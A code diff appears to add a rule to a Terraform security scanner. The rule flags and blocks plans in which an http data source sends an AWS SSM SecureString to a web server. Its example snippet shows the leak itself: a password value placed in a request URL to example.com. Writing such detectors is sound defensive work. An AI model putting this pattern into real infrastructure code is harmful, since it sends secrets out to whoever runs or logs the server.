@@ -8,6 +8,7 @@ from terrafence.declare import (
     Equals,
     Lacks,
     Level,
+    Never,
     NoneOf,
     Pick,
     Presence,
@@ -15,6 +16,7 @@ from terrafence.declare import (
     Rule,
     Safety,
     Severity,
+    Target,
     When,
 )
 
@@ -233,4 +235,46 @@ DOCUMENT_PUBLIC = Rule(
     aliases=("CKV_AWS_303",),
     controls=("AWS-Security-Hub:SSM.4",),
     references=(f"{_GUIDE}/documents-ssm-sharing.html", _DOCUMENT),
+)
+
+SENT_OVER_HTTP = Rule(
+    id="aws-ssm-secret-sent-by-http",
+    summary="A plan sends a secret parameter to a web server",
+    why="Every plan, also that of a pull request, makes the request: whoever runs the server, or reads its "
+    "log, has the secret.",
+    severity=Severity.HIGH,
+    level=Level.BLOCK,
+    resources=("data.http",),
+    check=All(
+        tuple(
+            Never(
+                Target("aws_ssm_parameter", path, Attr("type", Equals("SecureString"))),
+                f"its `{path}` has a `SecureString` in it",
+            )
+            for path in ("url", "request_body", "request_headers")
+        )
+    ),
+    no_fix="whether anything has to be sent there is for its owner to say",
+    example="""resource "aws_ssm_parameter" "password" {
+  name        = "password"
+  description = "the ledger's"
+  type        = "SecureString"
+  value       = var.password
+  key_id      = "alias/ledger"
+}
+
+data "http" "report" {
+  url = "https://example.com/?p=${aws_ssm_parameter.password.value}"
+}
+
+variable "password" {
+  type      = string
+  sensitive = true
+}
+""",
+    aliases=("CKV2_AWS_36", "AVD-AWS-0134"),
+    references=(
+        "https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http",
+        "https://developer.hashicorp.com/terraform/language/data-sources",
+    ),
 )
